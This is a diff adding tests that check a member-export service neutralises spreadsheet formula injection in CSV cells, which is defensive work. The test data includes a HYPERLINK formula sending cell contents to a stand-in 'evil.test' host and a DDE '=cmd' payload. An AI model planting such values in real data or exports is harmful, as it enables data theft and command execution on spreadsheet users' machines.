@@ -19,8 +19,10 @@ from psycopg import AsyncConnection
 from psycopg_pool import AsyncConnectionPool
 
 from store.audiences import export as member_export
-from tests.audience_seed import Seeded, has_wechat, reference_ids, seed, tier_of
-from tests.conftest import GraphQL
+from store.brands import brand_by_code
+from tests.audience_seed import Seeded, catch_up, has_wechat, reference_ids, seed, tier_of
+from tests.conftest import GraphQL, new_brand
+from tests.fragments import REGISTER
 from tests.server import OMNIMEMBER
 
 
@@ -223,3 +225,51 @@ def test_rowless_exports_write_what_the_row_path_writes(format: str, fields: str
     by_rows = "".join(render(member_export._record({"id": i}, "teahouse", layout)) for i in ids.tolist())
     assert member_export.rowless_lines(ids, *template) == by_rows
     assert member_export._rowless_template(member_export.layout(format, "id,tier"), "teahouse") is None
+
+
+FORMULAS = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(1)"]
+
+
+async def test_csv_cells_a_spreadsheet_would_run_are_neutralised(
+    pool: AsyncConnectionPool[Any], client: httpx.AsyncClient, gql: GraphQL
+) -> None:
+    """Found at 9bd6195 (issue 12, item 7): a city `=HYPERLINK(...)` or an external id
+    `=cmd|'/C calc'!A0`, stored through registerMember, was exported as is and ran in a spreadsheet.
+    In CSV such a cell is quoted with a `'` in front (OWASP); NDJSON keeps the value as stored."""
+    brand = await new_brand(pool)
+    for n, text in enumerate(FORMULAS):
+        registered = await gql(REGISTER, brand=brand, channel="wechat", externalId=text, city=text[:64])
+        assert registered["registerMember"]["__typename"] == "MemberRegistered", (n, registered)
+    async with pool.connection() as conn:
+        brand_id = (await brand_by_code(conn, brand))["id"]
+    await catch_up(pool, brand_id)
+    params = {"brand": brand, "expression": "channel:wechat", "fields": "id,city,channel:wechat"}
+
+    response = await client.get("/audiences/export", params=params)
+    assert response.status_code == 200, response.text
+    lines = response.text.splitlines()
+    rows = list(csv.reader(io.StringIO(response.text)))[1:]
+    assert [row[1:] for row in rows] == [["'" + text, "'" + text] for text in FORMULAS]
+    for line, text in zip(lines[1:], FORMULAS, strict=True):
+        quoted = "\"'" + text.replace('"', '""') + '"'
+        assert line.split(",", 1)[1] == f"{quoted},{quoted}"
+
+    response = await client.get("/audiences/export", params={**params, "format": "ndjson"})
+    records = [json.loads(line) for line in response.text.splitlines()]
+    assert [(r["city"], r["channel:wechat"]) for r in records] == [(text, [text]) for text in FORMULAS]
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+1", '"\'=1+1"'),
+        ("\tx", '"\'\tx"'),
+        ("\rx", '"\'\rx"'),
+        ("a=b", "a=b"),
+        ("a,b", '"a,b"'),
+        ("a\rb", '"a\rb"'),  # a bare carriage return would end the row for many readers
+        ("", ""),
+    ],
+)
+def test_csv_cells(value: str, cell: str) -> None:
+    assert member_export._csv_line([1, value]) == f"1,{cell}\n"
